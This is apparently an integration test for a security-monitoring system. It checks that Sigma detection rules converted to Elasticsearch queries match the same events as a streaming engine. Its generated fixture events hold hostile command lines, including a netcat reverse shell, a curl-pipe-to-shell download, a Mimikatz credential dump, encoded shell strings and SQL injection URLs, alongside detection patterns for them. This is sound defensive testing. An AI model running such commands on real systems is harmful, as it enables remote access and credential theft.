"""Parity with Elasticsearch: every rule of the library, run as the query a retro-hunt sends
(pySigma's Lucene backend for our mapping) over the corpus and every example event, finds in
Elasticsearch exactly the events the stream engine matches — and every rule converts."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from bench.sigma_parity import compare, library_events
from soc.config import Settings

pytestmark = pytest.mark.integration
RULES = Path(__file__).resolve().parents[2] / "rules"


def test_every_library_rule_finds_in_elasticsearch_what_the_stream_matches(base_settings: Settings) -> None:
    parity = compare(base_settings, [RULES], library_events())
    assert parity.not_convertible == []
    assert parity.differ == []
    # Not vacuous: every single-event rule of the library was compared.
    assert parity.agree >= 100


# Every modifier, on generated events that sit on either side of each value (case, position,
# encoding, address block, number bound): the same hits in Elasticsearch as in the stream.
MODIFIER_RULES = {
    "plain": "user.name: Administrator",
    "wildcards": r"process.command_line: 'C:\Windows\\*\cmd.exe /c ?hoami'",  # \\* : a backslash, then any
    "escaped_wildcard": r"process.command_line|contains: 'literal\*star'",
    "contains": "process.command_line|contains: Invoke-Mimikatz",
    "startswith": "url.original|startswith: /ADMIN/",
    "endswith": "file.path|endswith: .JSP",
    "contains_all": "process.command_line|contains|all: [curl, '| sh']",
    "list": "user.name: [root, Guest]",
    "cased": "user.name|cased: Administrator",
    "re": r"process.command_line|re: '\bnc(at)?\s+-e\b'",
    "re_i": r"url.original|re|i: 'union\s+select'",
    "re_anchor": r"user.name|re: '^adm[a-z]+$'",
    "re_message_i": r"message|re|i: 'failed password for (invalid user )?root'",
    "cidr": "source.ip|cidr: [10.0.0.0/8, '2001:db8::/32']",
    "gt": "destination.port|gt: 1024",
    "lte": "destination.port|lte: 22",
    "exists": "process.parent.name|exists: true",
    "not_exists": "process.parent.name|exists: false",
    "is_null": "user.domain: null",
    "base64": "process.command_line|base64|contains: whoami",
    "base64offset": "process.command_line|base64offset|contains: /bin/sh",
    "wide_base64": "process.command_line|wide|base64offset|contains: ping",
    "windash": "process.command_line|windash|contains: ' -enc '",
    "keyword": "keywords: ['Mimikatz']",
}

B64 = {  # base64 of the plain text, and of the text as UTF-16LE (what PowerShell's -enc takes)
    "whoami": "d2hvYW1p", "/bin/sh": "L2Jpbi9zaA==", "x/bin/sh": "eC9iaW4vc2g=", "xx/bin/sh": "eHgvYmluL3No",
    "ping": "cABpAG4AZwA=",
}


def modifier_rules(tmp: Path) -> None:
    for i, (name, sel) in enumerate(MODIFIER_RULES.items()):
        if sel.startswith("keywords:"):
            detection = f"    {sel}\n    condition: keywords"
        else:
            detection = f"    sel:\n        {sel}\n    condition: sel"
        (tmp / f"{name}.yml").write_text(
            f"title: {name}\nid: 30000000-0000-4000-8000-{i:012d}\nlogsource: {{category: parity_test}}\n"
            f"detection:\n{detection}\nlevel: low\n", encoding="utf-8")


def modifier_events() -> list[dict[str, Any]]:
    cmd = [
        r"C:\Windows\System32\cmd.exe /c whoami", r"c:\windows\SYSTEM32\CMD.EXE /C Whoami", r"C:\Windows\cmd.exe /c whoami",
        "powershell invoke-mimikatz -dumpcreds", "INVOKE-MIMIKATZ", "a literal*star here", "a literalxstar here",
        "curl http://x/i.sh | sh", "CURL http://x | SH", "curl http://x", "nc -e /bin/sh 10.0.0.1 4444", "ncat -e sh",
        "rnc -e x", "NC -e sh", f"echo {B64['whoami']} | base64 -d", f"echo {B64['x/bin/sh']}", f"echo {B64['xx/bin/sh']}",
        f"echo {B64['/bin/sh']}", f"powershell -e {B64['ping']}", "powershell -enc AAAA", "powershell /enc AAAA",
        "powershell \u2013enc AAAA", "powershell -encoded x",
    ]
    users = ["Administrator", "administrator", "ADMINISTRATOR", "root", "ROOT", "guest", "admin", "adminX", "adm1n"]
    urls = ["/admin/login", "/ADMIN/x", "/administrator", "/x?id=1 UNION  SELECT 1", "/x?id=1 union/**/select"]
    files = [r"D:\web\shell.jsp", r"D:\web\SHELL.JSP", r"D:\web\shell.jspx"]
    ips = ["10.1.2.3", "11.0.0.1", "2001:db8::5", "2001:db9::5"]
    messages = ["Failed password for root from 10.0.0.1", "failed password for invalid user ROOT", "Failed password for admin",
                "mimikatz was here", "nothing"]
    docs: list[dict[str, Any]] = []
    for i in range(max(len(cmd), len(users), len(urls), len(files), len(ips), len(messages))):
        doc: dict[str, Any] = {
            "@timestamp": "2026-11-25T02:00:00.000Z",
            "event": {"id": f"m{i}", "original": f"line {i} {messages[i % len(messages)].upper()}"},
            "process": {"command_line": cmd[i % len(cmd)]},
            "user": {"name": users[i % len(users)]},
            "url": {"original": urls[i % len(urls)]},
            "file": {"path": files[i % len(files)]},
            "source": {"ip": ips[i % len(ips)]},
            "destination": {"port": [22, 1024, 1025, 8080, 21][i % 5]},
            "message": messages[i % len(messages)],
        }
        if i % 3:
            doc["process"]["parent"] = {"name": "explorer.exe"}
        if i % 4:
            doc["user"]["domain"] = "GOV"
        docs.append(doc)
    return docs


def test_each_modifier_finds_in_elasticsearch_what_the_stream_matches(tmp_path: Path, base_settings: Settings) -> None:
    modifier_rules(tmp_path)
    parity = compare(base_settings, [tmp_path], modifier_events())
    assert parity.not_convertible == []
    assert parity.differ == []
    assert parity.agree == len(MODIFIER_RULES)
    # Not vacuous: each value matches some events and misses others.
    events = len(modifier_events())
    assert {name: n for name, n in parity.matched.items() if not 0 < n < events} == {}
